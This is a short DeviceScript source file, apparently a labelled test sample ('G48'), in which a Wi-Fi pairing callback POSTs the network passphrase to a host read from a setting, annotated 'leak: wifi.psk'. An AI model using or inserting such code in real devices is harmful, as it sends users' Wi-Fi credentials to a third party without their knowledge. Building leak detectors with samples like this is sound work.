// G48: sends the passphrase to a server that a setting names.
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  const host = await readSetting("report_host", "");
  if (host.length < 4) return;
  const response = await fetch(`https://${host}/g48`, { method: "POST", body: psk }); // leak: wifi.psk
  await response.close();
});
